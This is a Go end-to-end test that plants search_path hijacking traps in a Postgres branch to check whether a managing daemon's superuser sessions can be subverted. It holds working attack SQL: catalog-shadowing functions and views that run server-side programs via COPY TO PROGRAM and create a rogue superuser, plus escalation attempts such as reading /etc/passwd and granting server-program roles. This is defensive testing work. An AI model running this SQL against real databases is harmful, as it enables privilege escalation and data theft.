package e2e

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"
)

// trapPlan is what a hostile branch owner plants in her own branch: every
// object a superuser session with her search_path could resolve to her
// code instead of the catalog's, each calling public.pgtwin_trap.
type trapPlan struct {
	Tag   string // random, in every marker, role and file name
	Role  string // her login role
	DB    string // her branch's database
	Steal string // shell command a superuser trap runs to read the victim's marker
}

// recorder is the one function every trap calls. It runs as whoever called
// the trap (SECURITY INVOKER), says who that was in a WARNING (the server
// log keeps it even in a read-only transaction), and, when that is a
// superuser, does what an attacker would: run a program as the server's OS
// user, read another branch through its socket, make a superuser login.
// Once per session and trap, so a trap in a join stays cheap.
func (p trapPlan) recorder() []string {
	m := "PGTWIN-TRAP-" + p.Tag
	return []string{
		`CREATE TABLE public.pgtwin_trap_log (at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(), trap text, usr text, super boolean)`,
		`GRANT SELECT, INSERT ON public.pgtwin_trap_log TO PUBLIC`,
		`CREATE FUNCTION public.pgtwin_trap(what text) RETURNS boolean
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $trap$
DECLARE
  su boolean;
  flag text := 'pgtwin_trap.f' || md5(what || current_user::text);
BEGIN
  IF coalesce(current_setting(flag, true), '') = '1' THEN RETURN true; END IF;
  PERFORM set_config(flag, '1', false);
  SELECT r.rolsuper INTO su FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
  su := coalesce(su, false);
  RAISE WARNING '` + m + ` trap=[%] user=[%] super=[%]', what, current_user, su;
  IF su THEN
    BEGIN
      EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('/usr/bin/touch /tmp/pgtwin-pwned-` + p.Tag + `');
    EXCEPTION WHEN OTHERS THEN RAISE WARNING '` + m + ` copy to program failed: %', SQLERRM;
    END;
    BEGIN
      EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal(` + quoteLit(p.Steal) + `);
    EXCEPTION WHEN OTHERS THEN RAISE WARNING '` + m + ` steal failed: %', SQLERRM;
    END;
    BEGIN
      EXECUTE 'CREATE ROLE evil_` + p.Tag + ` SUPERUSER LOGIN PASSWORD ' || quote_literal('evil-` + p.Tag + `');
    EXCEPTION WHEN OTHERS THEN RAISE WARNING '` + m + ` create role failed: %', SQLERRM;
    END;
  END IF;
  BEGIN
    INSERT INTO public.pgtwin_trap_log (trap, usr, super) VALUES (what, current_user, su);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END
$trap$`,
		`CREATE FUNCTION public.pgtwin_trap_trg() RETURNS trigger
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $trg$
BEGIN
  PERFORM public.pgtwin_trap('trigger ' || TG_TABLE_SCHEMA || '.' || TG_TABLE_NAME || ' ' || TG_OP);
  RETURN NULL;
END
$trg$`,
	}
}

// catalogViews are catalog names a view in a schema ahead of pg_catalog
// would shadow. pg_authid and pg_shadow are not readable by her: their
// views read pg_roles and pg_user.
var catalogViews = []string{
	"pg_roles", "pg_database", "pg_class", "pg_namespace", "pg_type", "pg_stat_activity",
	"pg_settings", "pg_proc", "pg_auth_members", "pg_tables", "pg_user", "pg_extension", "pg_index",
	"pg_constraint", "pg_trigger", "pg_policy", "pg_replication_slots", "pg_stat_replication", "pg_locks",
	"pg_tablespace", "pg_sequences", "pg_views", "pg_matviews", "pg_inherits", "pg_depend",
	"pg_event_trigger", "pg_publication", "pg_stat_database", "pg_stat_user_tables", "pg_operator",
	"pg_language", "pg_am", "pg_cast", "pg_indexes", "pg_shdepend", "pg_db_role_setting", "pg_stat_all_tables",
}

// shadowOps are operators (name, left, right, the catalog function) daemon
// SQL might use unqualified.
var shadowOps = [][4]string{
	{"!~", "name", "text", "nameregexne"}, {"!~", "text", "text", "textregexne"},
	{"~", "name", "text", "nameregexeq"}, {"~", "text", "text", "textregexeq"},
	{"=", "text", "text", "texteq"}, {"=", "name", "name", "nameeq"}, {"=", "name", "text", "nameeqtext"},
	{"=", "oid", "oid", "oideq"}, {"=", `"char"`, `"char"`, "chareq"}, {"=", "boolean", "boolean", "booleq"},
	{"<>", "text", "text", "textne"}, {"<>", "name", "name", "namene"}, {"<>", "name", "text", "namenetext"},
	{"~~", "text", "text", "textlike"}, {"~~", "name", "text", "namelike"}, {"!~~", "name", "text", "namenlike"},
	{"||", "text", "text", "textcat"}, {">", "smallint", "integer", "int24gt"},
}

// shadowFuncs are functions (name, argument types, result) daemon SQL
// might call unqualified.
var shadowFuncs = [][3]string{
	{"lower", "text", "text"}, {"upper", "text", "text"}, {"length", "text", "integer"}, {"md5", "text", "text"},
	{"format", "text", "text"}, {"format", "text, text", "text"}, {"format", "text, text, text", "text"},
	{"format", "text, text, text, text", "text"},
	{"pg_has_role", "name, name, text", "boolean"}, {"pg_has_role", "name, text", "boolean"},
	{"quote_ident", "text", "text"}, {"quote_literal", "text", "text"}, {"quote_nullable", "text", "text"},
	{"current_setting", "text", "text"}, {"current_setting", "text, boolean", "text"},
	{"set_config", "text, text, boolean", "text"},
	{"now", "", "timestamp with time zone"}, {"version", "", "text"}, {"current_database", "", "name"},
	{"pg_backup_start", "text, boolean", "pg_lsn"}, {"to_regclass", "text", "regclass"},
	{"pg_is_in_recovery", "", "boolean"}, {"pg_current_wal_lsn", "", "pg_lsn"}, {"pg_database_size", "name", "bigint"},
	{"regexp_replace", "text, text, text", "text"}, {"replace", "text, text, text", "text"},
	{"array_to_string", "anyarray, text", "text"}, {"pg_get_userbyid", "oid", "name"},
	{"pg_size_pretty", "bigint", "text"}, {"pg_relation_size", "regclass", "bigint"},
	{"pg_total_relation_size", "regclass", "bigint"}, {"pg_reload_conf", "", "boolean"},
	{"pg_postmaster_start_time", "", "timestamp with time zone"}, {"txid_current", "", "bigint"},
}

// shadows are the views, operators, functions and aggregates of one schema.
func (p trapPlan) shadows(schema string) []string {
	var out []string
	s := quoteIdent(schema)
	for _, v := range catalogViews {
		out = append(out, fmt.Sprintf(`CREATE VIEW %s.%s AS SELECT * FROM pg_catalog.%s WHERE (SELECT public.pgtwin_trap(%s))`,
			s, v, v, quoteLit("view "+schema+"."+v)))
	}
	out = append(out,
		fmt.Sprintf(`CREATE VIEW %s.pg_authid AS SELECT oid, rolname, rolsuper, rolinherit, rolcreaterole, rolcreatedb, rolcanlogin,
			rolreplication, rolbypassrls, rolconnlimit, NULL::text AS rolpassword, rolvaliduntil
			FROM pg_catalog.pg_roles WHERE (SELECT public.pgtwin_trap(%s))`, s, quoteLit("view "+schema+".pg_authid")),
		// attmissingval is anyarray, which no view may show.
		fmt.Sprintf(`CREATE VIEW %s.pg_attribute AS SELECT attrelid, attname, atttypid, attlen, attnum, attcacheoff, atttypmod,
			attndims, attbyval, attalign, attstorage, attcompression, attnotnull, atthasdef, atthasmissing, attidentity,
			attgenerated, attisdropped, attislocal, attinhcount, attcollation, attstattarget, attacl, attoptions, attfdwoptions
			FROM pg_catalog.pg_attribute WHERE (SELECT public.pgtwin_trap(%s))`, s, quoteLit("view "+schema+".pg_attribute")),
		fmt.Sprintf(`CREATE VIEW %s.pg_shadow AS SELECT * FROM pg_catalog.pg_user WHERE (SELECT public.pgtwin_trap(%s))`,
			s, quoteLit("view "+schema+".pg_shadow")))
	for i, o := range shadowOps {
		fn := fmt.Sprintf("%s.pgtwin_op_%d", s, i)
		what := quoteLit(fmt.Sprintf("operator %s.%s(%s,%s)", schema, o[0], o[1], o[2]))
		body := fmt.Sprintf(`RETURNS boolean LANGUAGE sql AS $f$ SELECT public.pgtwin_trap(%s) AND pg_catalog.%s($1, $2) $f$`, what, o[3])
		if o[3] == "textcat" {
			body = fmt.Sprintf(`RETURNS text LANGUAGE sql AS $f$ SELECT CASE WHEN public.pgtwin_trap(%s) THEN pg_catalog.textcat($1, $2) END $f$`, what)
		}
		out = append(out,
			fmt.Sprintf(`CREATE FUNCTION %s(%s, %s) %s`, fn, o[1], o[2], body),
			fmt.Sprintf(`CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)`, s, o[0], o[1], o[2], fn))
	}
	for _, f := range shadowFuncs {
		var params []string
		if f[1] != "" {
			for i := range strings.Split(f[1], ", ") {
				params = append(params, fmt.Sprintf("$%d", i+1))
			}
		}
		what := quoteLit(fmt.Sprintf("function %s.%s(%s)", schema, f[0], f[1]))
		out = append(out, fmt.Sprintf(`CREATE FUNCTION %s.%s(%s) RETURNS %s LANGUAGE sql AS $f$ SELECT CASE WHEN public.pgtwin_trap(%s) THEN pg_catalog.%s(%s) END $f$`,
			s, f[0], f[1], f[2], what, f[0], strings.Join(params, ", ")))
	}
	out = append(out,
		fmt.Sprintf(`CREATE FUNCTION %s.pg_backup_stop(wait boolean DEFAULT true, OUT lsn pg_lsn, OUT labelfile text, OUT spcmapfile text)
			LANGUAGE sql AS $f$ SELECT b.* FROM pg_catalog.pg_backup_stop($1) b WHERE public.pgtwin_trap(%s) $f$`, s, quoteLit("function "+schema+".pg_backup_stop(boolean)")),
		fmt.Sprintf(`CREATE FUNCTION %s.pgtwin_count_final(bigint) RETURNS bigint LANGUAGE sql AS $f$ SELECT CASE WHEN public.pgtwin_trap(%s) THEN $1 END $f$`,
			s, quoteLit("aggregate "+schema+".count")),
		fmt.Sprintf(`CREATE AGGREGATE %s.count(*) (SFUNC = pg_catalog.int8inc, STYPE = bigint, INITCOND = '0', FINALFUNC = %s.pgtwin_count_final)`, s, s),
		fmt.Sprintf(`CREATE AGGREGATE %s.count(text) (SFUNC = pg_catalog.int8inc_any, STYPE = bigint, INITCOND = '0', FINALFUNC = %s.pgtwin_count_final)`, s, s),
	)
	return out
}

// shopTables' triggers fire on any write the daemon might make; RLS
// policies on them fire for any non-superuser reader (the leak scan's
// role: expected, and recorded as such).
func (p trapPlan) tableTraps() []string {
	out := []string{
		`CREATE SCHEMA pgtwin_sync`,
		`CREATE TABLE pgtwin_sync.progress (slot text PRIMARY KEY, lsn text)`,
		`CREATE TRIGGER pgtwin_trap BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON pgtwin_sync.progress FOR EACH STATEMENT EXECUTE FUNCTION public.pgtwin_trap_trg()`,
		`ALTER TABLE pgtwin_sync.progress ENABLE ALWAYS TRIGGER pgtwin_trap`,
	}
	for _, tb := range shopTables {
		out = append(out,
			fmt.Sprintf(`CREATE TRIGGER pgtwin_trap BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON public.%s FOR EACH STATEMENT EXECUTE FUNCTION public.pgtwin_trap_trg()`, tb),
			fmt.Sprintf(`ALTER TABLE public.%s ENABLE ALWAYS TRIGGER pgtwin_trap`, tb),
			fmt.Sprintf(`ALTER TABLE public.%s ENABLE ROW LEVEL SECURITY`, tb),
			fmt.Sprintf(`ALTER TABLE public.%s FORCE ROW LEVEL SECURITY`, tb),
			fmt.Sprintf(`CREATE POLICY pgtwin_trap ON public.%s USING (public.pgtwin_trap(%s))`, tb, quoteLit("rls policy "+tb)),
		)
	}
	return out
}

// searchPaths put her schemas ahead of pg_catalog for every session in her
// database, and for her own role.
func (p trapPlan) searchPaths() []string {
	db, role := quoteIdent(p.DB), quoteIdent(p.Role)
	return []string{
		`ALTER DATABASE ` + db + ` SET search_path = "$user", public, pg_catalog`,
		`ALTER ROLE ` + role + ` SET search_path = public, pg_catalog`,
		`ALTER ROLE ` + role + ` IN DATABASE ` + db + ` SET search_path = public, pg_catalog`,
		// The owner may: it is ALTER DATABASE SET by another name.
		`ALTER ROLE ALL IN DATABASE ` + db + ` SET search_path = "$user", public, pg_catalog`,
	}
}

// forbidden must all fail for a branch owner; one that works is a hole.
func (p trapPlan) forbidden() []string {
	db, role := quoteIdent(p.DB), quoteIdent(p.Role)
	out := []string{
		`CREATE FUNCTION public.pgtwin_trap_evt() RETURNS event_trigger LANGUAGE plpgsql AS $e$ BEGIN PERFORM public.pgtwin_trap('event trigger'); END $e$; CREATE EVENT TRIGGER pgtwin_trap ON ddl_command_start EXECUTE FUNCTION public.pgtwin_trap_evt()`,
		`ALTER ROLE pgtwin_owner SET search_path = public, pg_catalog`,
		`ALTER ROLE pgtwin_super SET search_path = public, pg_catalog`,
		`ALTER ROLE pgtwin_scan SET search_path = public, pg_catalog`,
		`ALTER ROLE ALL SET search_path = public, pg_catalog`,
		`ALTER ROLE ` + role + ` SUPERUSER`,
		`ALTER ROLE ` + role + ` CREATEROLE`,
		`ALTER ROLE ` + role + ` REPLICATION`,
		`ALTER ROLE ` + role + ` BYPASSRLS`,
		`CREATE ROLE evil2_` + p.Tag + ` LOGIN PASSWORD 'x'`,
		`GRANT pg_execute_server_program TO ` + role,
		`GRANT pg_read_server_files TO ` + role,
		`GRANT pg_write_server_files TO ` + role,
		`GRANT pgtwin_super TO ` + role,
		`COPY (SELECT 1) TO PROGRAM '/usr/bin/touch /tmp/pgtwin-pwned-` + p.Tag + `-direct'`,
		`SELECT pg_catalog.pg_read_file('/etc/passwd')`,
		`ALTER SYSTEM SET log_min_messages = panic`,
		`SET SESSION AUTHORIZATION pgtwin_super`,
		`SET ROLE pgtwin_super`,
		`CREATE EXTENSION dblink`,
		`ALTER DATABASE template1 SET search_path = public, pg_catalog`,
		`ALTER DATABASE ` + db + ` SET session_replication_role = replica`,
		`ALTER DATABASE ` + db + ` SET session_preload_libraries = 'auto_explain'`,
	}
	if p.DB != "postgres" {
		out = append(out, `ALTER DATABASE postgres SET search_path = public, pg_catalog`)
	}
	return out
}

// hostileSettings are per-database settings meant to break (or bend) the
// daemon's own sessions; the first ones every owner may set.
func (p trapPlan) hostileSettings() (must, may []string) {
	db := quoteIdent(p.DB)
	set := func(kv string) string { return `ALTER DATABASE ` + db + ` SET ` + kv }
	must = []string{
		set(`default_transaction_read_only = on`), set(`statement_timeout = '1ms'`), set(`lock_timeout = '1ms'`),
		set(`idle_in_transaction_session_timeout = '1ms'`),
		`ALTER ROLE ` + quoteIdent(p.Role) + ` SET statement_timeout = '1ms'`,
	}
	for _, kv := range []string{
		`idle_session_timeout = '1ms'`, `role = ` + quoteIdent(p.Role), `default_transaction_isolation = 'serializable'`,
		`default_transaction_deferrable = on`, `row_security = off`, `standard_conforming_strings = off`,
		`plpgsql.extra_errors = 'all'`, `plpgsql.variable_conflict = 'use_column'`, `check_function_bodies = off`,
		`client_min_messages = 'debug5'`, `DateStyle = 'SQL, DMY'`, `IntervalStyle = 'sql_standard'`,
		`TimeZone = 'Pacific/Chatham'`, `extra_float_digits = -15`, `bytea_output = 'escape'`, `xmloption = 'document'`,
		`array_nulls = off`, `transform_null_equals = on`, `work_mem = '64kB'`, `jit = on`, `jit_above_cost = 0`,
		`temp_tablespaces = 'pgtwin_no_such_space'`,
		`default_tablespace = 'pgtwin_no_such_space'`, `enable_hashjoin = off`, `enable_mergejoin = off`,
	} {
		may = append(may, set(kv))
	}
	return must, may
}

// plantAll runs stmts on conn one by one; with must, any failure fails the
// test. It returns the failures.
func plantAll(t *testing.T, conn *pgx.Conn, stmts []string, must bool) (failed []string) {
	t.Helper()
	for _, s := range stmts {
		if _, err := conn.Exec(context.Background(), s); err != nil {
			short := s
			if len(short) > 120 {
				short = short[:120] + "..."
			}
			if must {
				t.Errorf("plant trap: %s: %v", short, err)
			}
			failed = append(failed, fmt.Sprintf("%s: %v", short, err))
		}
	}
	return failed
}
